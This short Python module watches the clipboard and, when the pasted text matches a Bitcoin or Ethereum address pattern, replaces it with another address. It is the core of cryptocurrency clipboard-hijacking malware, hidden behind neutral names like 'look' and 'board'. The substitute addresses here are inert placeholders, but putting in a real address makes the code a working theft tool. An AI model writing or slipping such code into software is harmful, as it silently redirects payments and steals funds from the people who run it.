import re

from . import board

FORMATS = [
    (re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"), "bc1qinertinertinertinertinertinert00000000"),
    (re.compile(r"^0x[a-fA-F0-9]{40}$"), "0x0000000000000000000000000000000000000000"),
]


def look():
    text = board.paste()
    for form, other in FORMATS:
        if form.match(text):
            board.copy(other)
